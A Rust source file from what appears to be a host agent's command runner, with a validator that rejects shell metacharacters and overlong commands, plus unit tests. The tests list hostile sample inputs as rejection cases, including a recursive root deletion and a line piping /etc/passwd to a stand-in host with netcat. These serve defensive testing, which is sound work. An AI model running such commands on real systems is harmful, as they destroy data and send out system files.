//! Shell command execution on the host.
//!
//! Everything the agent runs on the box (install scripts, cloud-init
//! `runCmd` entries, systemctl invocations) goes through [`CmdRunner`], so
//! tests can observe and fake command execution. The real runner binds the
//! child process to the reconcile's cancellation: dropping the future kills
//! the shell.

use async_trait::async_trait;
#[cfg(test)]
use mockall::automock;
use tracing::debug;

use crate::{Error, Result};

/// Maximum allowed length for a command string, in bytes.
pub const MAX_COMMAND_LENGTH: usize = 4096;

const FORBIDDEN_CHARS: [char; 5] = [';', '&', '|', '$', '`'];

/// Executes command strings on the host.
#[cfg_attr(test, automock)]
#[async_trait]
pub trait CmdRunner: Send + Sync {
    /// Run the command through a shell, returning once it exits.
    async fn run(&self, cmd: &str) -> Result<()>;
}

/// Validate a command against the runner contract: non-empty commands must
/// fit the length limit and avoid shell metacharacters that would allow
/// chaining or substitution.
pub fn validate_command(cmd: &str) -> Result<()> {
    if cmd.len() > MAX_COMMAND_LENGTH {
        return Err(Error::command(format!(
            "command exceeds {} bytes",
            MAX_COMMAND_LENGTH
        )));
    }
    if let Some(c) = cmd.chars().find(|c| FORBIDDEN_CHARS.contains(c)) {
        return Err(Error::command(format!(
            "command contains forbidden character {:?}",
            c
        )));
    }
    Ok(())
}

/// CmdRunner backed by `/bin/bash -c`.
#[derive(Clone, Copy, Debug, Default)]
pub struct ShellRunner;

#[async_trait]
impl CmdRunner for ShellRunner {
    async fn run(&self, cmd: &str) -> Result<()> {
        if cmd.trim().is_empty() {
            return Ok(());
        }
        validate_command(cmd)?;

        debug!(cmd = %cmd, "running command");
        let status = tokio::process::Command::new("/bin/bash")
            .arg("-c")
            .arg(cmd)
            .kill_on_drop(true)
            .status()
            .await?;

        if !status.success() {
            return Err(Error::command(format!(
                "command {:?} exited with {}",
                cmd, status
            )));
        }
        Ok(())
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    // =========================================================================
    // Safety filter stories
    // =========================================================================
    //
    // The filter exists because command strings originate in user-supplied
    // secrets (cloud-init runCmd, uninstall scripts). Characters enabling
    // chaining or substitution are rejected outright, and the rejection is
    // an error the reconciler surfaces - never a silent no-op.

    /// Each forbidden shell metacharacter is rejected with a named error.
    #[test]
    fn forbidden_characters_are_rejected() {
        for cmd in [
            "echo hi; rm -rf /",
            "true && false",
            "cat /etc/passwd | nc evil 80",
            "echo $HOME",
            "echo `id`",
        ] {
            let err = validate_command(cmd).unwrap_err();
            assert!(
                err.to_string().contains("forbidden character"),
                "{:?} should be rejected",
                cmd
            );
        }
    }

    /// Plain commands with flags, paths and equals signs pass the filter.
    #[test]
    fn ordinary_commands_pass() {
        for cmd in [
            "systemctl daemon-reload",
            "systemctl enable --now kubelet",
            "kubeadm reset --force",
            "ip addr del 10.0.0.5/32 dev eth0",
        ] {
            assert!(validate_command(cmd).is_ok(), "{:?} should pass", cmd);
        }
    }

    /// Oversized commands are rejected by length before anything runs.
    #[test]
    fn oversized_commands_are_rejected() {
        let cmd = "a".repeat(MAX_COMMAND_LENGTH + 1);
        let err = validate_command(&cmd).unwrap_err();
        assert!(err.to_string().contains("exceeds"));
    }

    /// The real runner treats whitespace-only commands as successful no-ops
    /// (cloud-init documents routinely carry empty entries).
    #[tokio::test]
    async fn empty_commands_are_noops() {
        assert!(ShellRunner.run("   ").await.is_ok());
    }

    /// The real runner propagates exit status as an error.
    #[tokio::test]
    async fn failing_commands_surface_their_status() {
        let err = ShellRunner.run("false").await.unwrap_err();
        assert!(err.to_string().contains("exited with"));
    }

    #[tokio::test]
    async fn successful_commands_return_ok() {
        assert!(ShellRunner.run("true").await.is_ok());
    }
}
